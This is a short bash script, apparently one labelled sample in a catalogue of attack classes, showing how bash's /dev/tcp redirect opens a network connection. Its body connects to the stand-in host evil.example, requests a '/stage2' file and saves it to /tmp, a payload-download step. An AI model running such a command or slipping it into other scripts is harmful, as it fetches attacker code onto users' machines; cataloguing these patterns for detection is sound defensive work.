#!/usr/bin/env bash
# attack-class: 21
# title: exec 3<>/dev/tcp/host/port
# why: bash's /dev/tcp turns a redirect into a network connection

exec 3<>/dev/tcp/evil.example/80
printf 'GET /stage2 HTTP/1.0\r\nHost: evil.example\r\n\r\n' >&3
cat <&3 > /tmp/stage2
